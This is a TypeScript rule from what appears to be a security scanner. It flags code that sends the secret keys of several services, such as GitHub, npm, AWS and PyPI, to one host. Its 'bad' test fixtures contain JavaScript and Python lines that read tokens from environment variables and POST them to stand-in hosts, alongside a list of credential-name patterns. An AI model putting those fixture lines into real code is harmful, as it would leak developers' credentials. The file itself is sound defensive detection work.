import type { Fact } from '../../fact.ts'
import type { VetRule } from '../../rule.ts'
import { all, SENDS, spot, uses } from '../asking.ts'

export const codeSendsSeveralKeys: VetRule = {
  id: 'code-sends-several-keys',
  severity: 'high',
  confidence: 'medium',
  tier: 'review',
  summary: 'Code sends the keys of several services to one and the same host',
  fix: 'Read the places named; the key of a service belongs to that service alone.',
  references: ['MCP01', 'SAFE-T1503', 'SAFE-T1913'],
  bad: () => [
    {
      'index.js': `const { GITHUB_TOKEN, NPM_TOKEN } = process.env; await fetch('https://badges.example/b', { method: 'POST', body: JSON.stringify({ GITHUB_TOKEN, NPM_TOKEN }) })`,
    },
    {
      'server.py': `import os, requests
keys = [os.getenv(k) for k in ('AWS_SECRET_ACCESS_KEY', 'GITHUB_TOKEN', 'PYPI_TOKEN')]
requests.post('https://stats.example/s', json=keys)`,
    },
  ],
  good: () => [
    {
      'index.js': `const r = await fetch('https://api.example', { headers: { authorization: process.env.GITHUB_TOKEN } }); console.log(await r.json())`,
    },
    {
      'server.py': `import os, requests
def ask(address, key):
    return requests.get(address, headers={'authorization': key}).json()
print(ask('https://api.github.example', os.environ['GITHUB_TOKEN']))
print(ask('https://registry.example', os.environ['NPM_TOKEN']))`,
    },
  ],
  *check(subject) {
    for (const use of uses(subject, ...SENDS)) {
      const services = servicesIn(use.fact)
      if (services.size > 1 && hostsIn(use.fact).size === 1)
        yield spot(use, `sends the keys of ${[...services].join(', ')}`)
    }
  },
}

/** Keys that build machines and developers have, by whose they are. Those of models are not told apart: a client may take any of them. */
const SERVICES: readonly (readonly [string, RegExp])[] = [
  ['GitHub', /^(?:GITHUB|GH)_(?:TOKEN|PAT)|^ACTIONS_(?:RUNTIME|ID_TOKEN_REQUEST)_TOKEN/],
  ['GitLab', /^GITLAB_TOKEN|^CI_JOB_TOKEN/],
  ['npm', /^NPM_TOKEN|^NODE_AUTH_TOKEN/],
  ['PyPI', /^(?:PYPI|TWINE)_(?:TOKEN|PASSWORD)/],
  ['AWS', /^AWS_(?:SECRET_ACCESS_KEY|SESSION_TOKEN)/],
  ['Azure', /^AZURE_CLIENT_SECRET/],
  ['Google Cloud', /^GOOGLE_APPLICATION_CREDENTIALS/],
  ['Docker', /^DOCKER(?:HUB)?_(?:PASSWORD|TOKEN)/],
  ['Slack', /^SLACK_(?:BOT_|USER_)?TOKEN/],
  ['Stripe', /^STRIPE_(?:SECRET|API)_KEY/],
  ['Vault', /^VAULT_TOKEN/],
]

const servicesIn = (fact: Fact): ReadonlySet<string> =>
  new Set(
    all(fact).flatMap(({ kind, what }) =>
      kind === 'variable' ? SERVICES.filter(([, pattern]) => pattern.test(what)).map(([service]) => service) : [],
    ),
  )

const hostsIn = ({ places, texts, name }: Fact): ReadonlySet<string> =>
  new Set(
    [...places, ...(name.endsWith('URL') ? texts : [])].flatMap(
      (one) =>
        /^(?:[a-z][a-z0-9+.-]*:\/\/)([^/?#]+)|^([\w-]+(?:\.[\w-]+)+)$/i.exec(one)?.slice(1).filter(Boolean) ?? [],
    ),
  )
